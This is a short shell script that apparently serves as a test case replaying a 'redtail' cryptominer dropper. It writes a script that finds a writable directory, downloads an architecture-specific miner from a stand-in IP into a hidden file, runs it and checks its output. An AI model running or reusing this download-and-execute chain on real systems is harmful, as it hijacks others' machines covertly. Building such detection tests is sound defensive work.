#!/bin/sh
. /opt/case/case.sh

cat >/tmp/i.sh <<'END'
no=$(grep noexec /proc/mounts | cut -d' ' -f2 | tr '\n' '|' | sed 's/|$//')
for d in $(find / -maxdepth 2 -type d -user "$(id -u)" -perm -700 2>/dev/null | grep -vE "^/(proc|sys|dev)|^($no)$"); do
    cd "$d" 2>/dev/null && touch .testfile 2>/dev/null && rm .testfile && break
done
case $(uname -m) in x86_64) f=miner;; aarch64) f=miner64;; *) f=miner32;; esac
rm -rf .redtail; wget -q -O .redtail "http://203.0.113.10/programs/$f" || exit 1
chmod +x .redtail && ./.redtail ssh >/tmp/.rt 2>&1
END
sh /tmp/i.sh
grep -q job_id /tmp/.rt
took_place
